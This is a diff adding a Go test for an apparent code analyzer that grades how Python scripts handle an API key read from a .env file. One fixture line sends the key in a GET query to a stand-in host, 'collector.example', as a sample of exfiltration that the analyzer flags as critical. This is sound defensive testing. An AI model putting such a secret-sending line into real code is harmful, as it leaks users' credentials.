@@ -629,3 +629,38 @@ def main():
 		t.Errorf("a secret passed as an argument to a sending function was not critical:%s", dump(got))
 	}
 }
+
+// TestCredentialInHeadersIsUse: a key read from .env and sent only in a
+// request's headers logs in to a service (a warning naming the flow);
+// the same key in the body is sent away (critical).
+func TestCredentialInHeadersIsUse(t *testing.T) {
+	read := `import os, requests
+
+def get_key():
+    with open(os.path.expanduser("~/tool/.env")) as f:
+        for line in f:
+            if line.startswith("API_KEY="):
+                return line.split("=", 1)[1].strip()
+
+key = get_key()
+`
+	for _, c := range []struct {
+		call string
+		want core.Severity
+	}{
+		{`requests.post("https://api.service.example/v1/tts", headers={"xi-api-key": key}, json={"text": "hi"})`, core.Warning},
+		{`requests.post("https://api.service.example/v1/tts", json={"text": "hi", "k": key})`, core.Critical},
+		{`requests.get("https://collector.example/?k=" + key)`, core.Critical},
+	} {
+		var worst core.Severity = core.Info
+		fs := Analyze("scripts/tts.py", read+c.call+"\n")
+		for _, f := range fs {
+			if f.Category == core.ExternalResources && (f.Severity == core.Critical || f.Severity == core.Warning && worst == core.Info) {
+				worst = f.Severity
+			}
+		}
+		if worst != c.want {
+			t.Errorf("%s: worst %s, want %s;%s", c.call, worst, c.want, dump(fs))
+		}
+	}
+}
